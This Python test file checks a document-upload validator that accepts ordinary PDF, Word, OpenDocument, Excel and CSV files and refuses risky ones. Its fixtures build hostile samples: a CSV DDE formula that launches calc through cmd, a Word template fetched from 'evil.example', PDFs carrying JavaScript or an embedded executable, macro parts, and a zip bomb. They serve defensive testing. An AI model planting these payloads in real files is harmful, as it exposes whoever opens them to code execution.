"""Documents are looked into; what could run is refused."""

from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

import pytest
from openpyxl import Workbook
from pypdf import PdfWriter

from summit.core.errors import DomainError
from summit.files.rules.documents import looked_into

WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
TYPES = f'<Types><Override PartName="/word/document.xml" ContentType="{WORD}"/></Types>'
MACRO = "application/vnd.ms-word.document.macroEnabled.main+xml"
ODT = "application/vnd.oasis.opendocument.text"
TEMPLATE = (
    '<Relationships><Relationship Id="a" Type="http://x/attachedTemplate" '
    'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)
LINK = (
    '<Relationships><Relationship Id="a" Type="http://x/hyperlink" '
    'Target="https://example.org" TargetMode="External"/></Relationships>'
)


def zipped(members):
    stream = BytesIO()
    with ZipFile(stream, "w", ZIP_DEFLATED) as archive:
        for name, body in members.items():
            archive.writestr(name, body)
    return stream.getvalue()


def word(types=TYPES, **more):
    return zipped({"[Content_Types].xml": types, "word/document.xml": "<w/>"} | more)


def text(**more):
    return zipped({"mimetype": ODT, "content.xml": "<office/>"} | more)


def workbook():
    stream = BytesIO()
    book = Workbook()
    book.active["A1"] = "=1+1"
    book.save(stream)
    return stream.getvalue()


def pdf(*, script=False, locked=False, attached=False):
    writer, stream = PdfWriter(), BytesIO()
    writer.add_blank_page(72, 72)
    if attached:
        writer.add_attachment("a.exe", b"MZ")
    if locked:
        writer.encrypt("x", algorithm="RC4-128")
    writer.write(stream)
    action = (
        b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >> /Type /Catalog" if script else b"/Type /Catalog"
    )
    return stream.getvalue().replace(b"/Type /Catalog", action)


@pytest.mark.parametrize(
    ("name", "content", "kind"),
    [
        ("a.pdf", pdf(), "PDF"),
        ("A.DOCX", word(), "DOCX"),
        ("a.docx", word(**{"word/_rels/document.xml.rels": LINK}), "DOCX"),
        ("a.odt", text(), "ODT"),
        ("a.xlsx", workbook(), "XLSX"),
        ("a.csv", "Year,Calls\n2024,-31\n2025,+4.5\n".encode("utf-8-sig"), "CSV"),
        ("a.csv", "Blwyddyn;Tŷ\n".encode(), "CSV"),
    ],
)
def test_what_is_what_its_name_says_is_taken(name, content, kind):
    assert looked_into(content, name=name).kind == kind


BOMB = zipped({"[Content_Types].xml": TYPES, "word/document.xml": bytes(30_000_000)})


@pytest.mark.parametrize(
    ("name", "content", "sentence"),
    [
        ("a.exe", b"MZ", "must be a PDF, DOCX, ODT, XLSX or CSV"),
        ("a.svg", b"<svg><script/></svg>", "must be a PDF, DOCX, ODT, XLSX or CSV"),
        ("a.docm", word(MACRO), "must be a PDF, DOCX, ODT, XLSX or CSV"),
        ("a.pdf", b"", "is empty"),
        ("a.docx", zipped({"notes.txt": "a"}), "named DOCX, but it is no Word document"),
        ("a.docx", b"Only words", "named DOCX, but it is no Word document"),
        ("a.docx", workbook(), "named DOCX, but it is no Word document"),
        ("a.xlsx", word(), "named XLSX, but it is no Excel workbook"),
        ("a.odt", zipped({"mimetype": "application/zip", "content.xml": ""}), "no OpenDocument text"),
        ("a.docx", word(**{"word/vbaProject.bin": b"x"}), "holds macros or programs"),
        ("a.docx", word(TYPES + MACRO), "holds macros or programs"),
        ("a.docx", word(**{"word/activeX/activeX1.xml": b"x"}), "holds macros or programs"),
        ("a.docx", word(**{"word/embeddings/oleObject1.bin": b"x"}), "holds macros or programs"),
        ("a.odt", text(**{"Basic/Standard/Module1.xml": b"x"}), "holds macros or programs"),
        ("a.odt", text(**{"Scripts/python/a.py": b"x"}), "holds macros or programs"),
        ("a.docx", word(**{"word/_rels/settings.xml.rels": TEMPLATE}), "loads its template"),
        ("a.docx", b"%PDF-1.7\n" + word(), "named DOCX, but it is no Word document"),
        ("a.docx", word()[:-20], "is damaged"),
        ("a.docx", BOMB, "unpacks to far more"),
        ("a.pdf", b"GIF89a", "it is no PDF"),
        ("a.pdf", pdf() + word(), "Something else follows the end of the PDF"),
        ("a.pdf", pdf() + b"<script>" * 300, "Something else follows the end of the PDF"),
        ("a.pdf", b"%PDF-1.7\n%%EOF", "is damaged"),
        ("a.pdf", pdf(script=True), "holds a program or other files"),
        ("a.pdf", pdf(attached=True), "holds a program or other files"),
        ("a.pdf", pdf(locked=True), "locked with a password"),
        ("a.csv", b"a,b\n1,=cmd|' /C calc'!A0\n", "Line 2 of the CSV file holds a formula"),
        ("a.csv", b"a\n@SUM(1)\n", "Line 2 of the CSV file holds a formula"),
        ("a.csv", b"a\x00b", "it is no table of text"),
        ("a.csv", b"<html><script>", "it is no table of text"),
        ("a.csv", b"x" * (10 * 1024 * 1024 + 1), "must be 10 MB or smaller; yours is 10.1 MB"),
    ],
)
def test_what_could_run_or_lies_about_itself_is_refused_with_a_sentence(name, content, sentence):
    with pytest.raises(DomainError) as refused:
        looked_into(content, name=name)
    assert sentence in str(refused.value)
    assert refused.value.field == "file"


def test_a_document_that_begins_with_something_else_is_refused():
    archive = BytesIO(b"PK\x03\x04 a picture, say")
    archive.seek(0, 2)
    with ZipFile(archive, "a") as more:
        more.writestr("[Content_Types].xml", TYPES)
        more.writestr("word/document.xml", "<w/>")
    with pytest.raises(DomainError, match="more than one thing at once"):
        looked_into(archive.getvalue(), name="a.docx")
